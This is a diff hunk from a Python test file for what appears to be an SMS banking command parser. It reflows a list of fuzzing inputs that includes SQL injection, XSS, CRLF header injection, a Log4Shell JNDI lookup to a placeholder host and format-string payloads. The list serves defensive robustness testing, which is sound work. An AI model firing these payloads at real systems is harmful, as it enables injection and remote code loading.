@@ -136,7 +136,8 @@ def test_help_and_half_sentences_get_one_right_example(carrier: Carrier, text: s
 NASTY = [
     "", " ", "\r\n", "\t", "\x00", "\u200b", "\ufeff", "\u202eODLAS", "💰💰💰", "ಸ" * 300, "#" * 500,
     "9" * 2_000, "=HYPERLINK(\"http://x.example\")", "'; DROP TABLE messaging_inbound; --",
-    "<script>alert(1)</script>", "SALDO\r\nX-Injected: 1", "${jndi:ldap://x.example}", "%s%s%s%n", "\ud83d", "A" * 5_000,
+    "<script>alert(1)</script>", "SALDO\r\nX-Injected: 1", "${jndi:ldap://x.example}", "%s%s%s%n",
+    "\ud83d", "A" * 5_000,
     "DAFTAR SALDO#" + "9" * 16 + "#31-02-1990#99000002217", "DAFTAR SALDO#" * 60,
     "DAFTAR SALDO#99020212038500021#12-03-1985#99000002217", "PIN", "PIN 1", "BAHASA XX",
     "SALDO " + "1 " * 300,
